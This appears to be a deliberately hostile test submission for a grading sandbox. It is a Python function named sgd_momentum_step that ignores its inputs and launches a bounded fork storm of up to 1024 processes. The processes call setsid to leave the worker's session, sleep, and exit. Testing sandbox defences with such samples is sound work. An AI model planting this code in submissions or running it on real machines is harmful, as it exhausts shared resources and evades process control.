# ruff: noqa  (a deliberately hostile test submission)
import os
import time

import numpy as np


def sgd_momentum_step(param, grad, velocity, learning_rate=0.01, momentum=0.0):
    # A bounded fork storm: every process forks at each of 10 levels, so at most
    # 2**10 processes, each of which sleeps 30 s and exits.
    for _level in range(10):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            os.setsid()  # try to escape the worker's session, too
    time.sleep(30)
    os._exit(0)
